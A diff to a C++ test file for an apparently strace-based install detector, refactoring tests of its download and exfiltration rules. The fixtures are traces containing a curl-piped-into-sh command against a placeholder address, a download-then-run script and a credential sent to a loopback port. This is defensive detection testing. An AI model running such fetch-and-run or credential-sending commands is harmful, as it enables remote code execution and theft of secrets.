@@ -36,6 +36,15 @@ const Found* find(const std::vector<Found>& f, const std::string& rule) {
   return it == f.end() ? nullptr : &*it;
 }
 
+// That `rule` fired at `severity` and its description says `words`.
+void expect_finding(const std::vector<Found>& f, const std::string& rule, const std::string& severity,
+                    const std::string& words) {
+  const Found* d = find(f, rule);
+  ASSERT_NE(d, nullptr) << rule;
+  EXPECT_EQ(d->severity, severity) << rule;
+  EXPECT_NE(d->description.find(words), std::string::npos) << d->description;
+}
+
 // sh -c 'curl -s https://203.0.113.80/install.sh | sh': curl and the second sh are siblings.
 const char* const kCurlPipeSh =
     "299 10:00:00.000000 execve(\"/bin/sh\", [\"sh\", \"-c\", \"curl -s https://203.0.113.80/i.sh | sh\"], []) = 0\n"
@@ -58,12 +67,8 @@ const char* const kCurlPipeSh =
     "299 10:00:00.150000 +++ exited with 0 +++\n";
 
 TEST(DownloadRules, CurlPipedIntoAShell) {
-  const auto f = findings_of_import(kCurlPipeSh);
-  const Found* d = find(f, "download-piped-to-shell");
-  ASSERT_NE(d, nullptr);
-  EXPECT_EQ(d->severity, "high");
-  EXPECT_NE(d->description.find("sh runs a script it reads from a pipe"), std::string::npos) << d->description;
-  EXPECT_NE(d->description.find("203.0.113.80:443"), std::string::npos) << d->description;
+  expect_finding(findings_of_import(kCurlPipeSh), "download-piped-to-shell", "high",
+                 "sh runs a script it reads from a pipe, after 203.0.113.80:443 was contacted");
 }
 
 // The same pipe without a download before it (`echo … | sh`) is ordinary.
@@ -86,11 +91,8 @@ TEST(DownloadRules, ScriptWrittenAfterADownloadThenRunByAShell) {
       "400 10:00:00.060000 openat(AT_FDCWD, \"/tmp/y\", O_RDONLY) = 3</tmp/y>\n"
       "400 10:00:00.070000 exit_group(0) = ?\n"
       "400 10:00:00.080000 +++ exited with 0 +++\n");
-  const Found* d = find(f, "download-then-run-script");
-  ASSERT_NE(d, nullptr);
-  EXPECT_EQ(d->severity, "medium");
-  EXPECT_NE(d->description.find("runs /tmp/y, a script this run wrote after contacting 203.0.113.80:443"),
-            std::string::npos) << d->description;
+  expect_finding(f, "download-then-run-script", "medium",
+                 "runs /tmp/y, a script this run wrote after contacting 203.0.113.80:443");
 }
 
 // A credential read and then sent to a peer on this machine (a proxy, a tunnel): high, where a
@@ -103,10 +105,7 @@ TEST(DownloadRules, CredentialsSentToALoopbackPeer) {
       "500 10:00:00.030000 connect(4<TCP:[40]>, {sa_family=AF_INET, sin_port=htons(8080), sin_addr=inet_addr(\"127.0.0.1\")}, 16) = 0\n"
       "500 10:00:00.040000 exit_group(0) = ?\n"
       "500 10:00:00.050000 +++ exited with 0 +++\n");
-  const Found* d = find(f, "exfiltration-local");
-  ASSERT_NE(d, nullptr);
-  EXPECT_EQ(d->severity, "high");
-  EXPECT_NE(d->description.find("127.0.0.1:8080"), std::string::npos) << d->description;
+  expect_finding(f, "exfiltration-local", "high", "sent data to 127.0.0.1:8080 on this machine");
   EXPECT_EQ(find(f, "exfiltration"), nullptr);
 }
 
